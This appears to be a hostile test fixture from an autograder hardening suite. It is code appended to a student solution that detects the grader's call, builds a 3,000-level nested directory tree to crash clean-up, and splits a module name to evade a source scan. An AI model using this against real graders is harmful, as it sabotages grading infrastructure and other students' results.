# hostile: appended to solutions/bleu.py
# A56: folders nested 3,000 levels deep (every 50th name 255 characters long: the whole path is far past PATH_MAX),
# made one level at a time relative to the last, in FOLDER (/dev/shm, which is the machine's own under Docker's
# capabilities, or the worker's TMPDIR). A clean-up that recurses once a level, or walks by path, fails on it: before,
# the next grade on the machine died in the grader's sweep (RecursionError), and on Gradescope the grade that made it
# ended with the placeholder results.json. The probe says how deep it got.
import json as _json
import os as _os
import sys as _sys

# @@RUNTIME_NAMES@@

_KIT = "auto" + "grader"   # the kit's package, not written whole: the source scan refuses a module that names it (A55)
FOLDER, DEPTH = "@@FOLDER@@", 3000
_reference_ngram_counts = ngram_counts


def _nest() -> dict:
    folder = _os.environ["TMPDIR"] if FOLDER == "TMPDIR" else FOLDER
    made, error = 0, None
    try:
        top = f"captionkit-A56-{_os.getpid()}"
        _os.mkdir(_os.path.join(folder, top))
        current = _os.open(_os.path.join(folder, top), _os.O_RDONLY)
        for level in range(DEPTH):
            name = "n" * 255 if level % 50 == 0 else "a"
            _os.mkdir(name, dir_fd=current)
            below = _os.open(name, _os.O_RDONLY, dir_fd=current)
            _os.close(current)
            current = below
            made += 1
        _os.close(current)
    except OSError as exc:
        error = type(exc).__name__
    return {"made": made, "error": error}


def ngram_counts(tokens, n):
    if _caller_globals(1).get("__name__", "").startswith(_KIT + "."):  # the grader's own call
        raise RuntimeError("PROBE" + _json.dumps(_nest()))
    return _reference_ngram_counts(tokens, n)
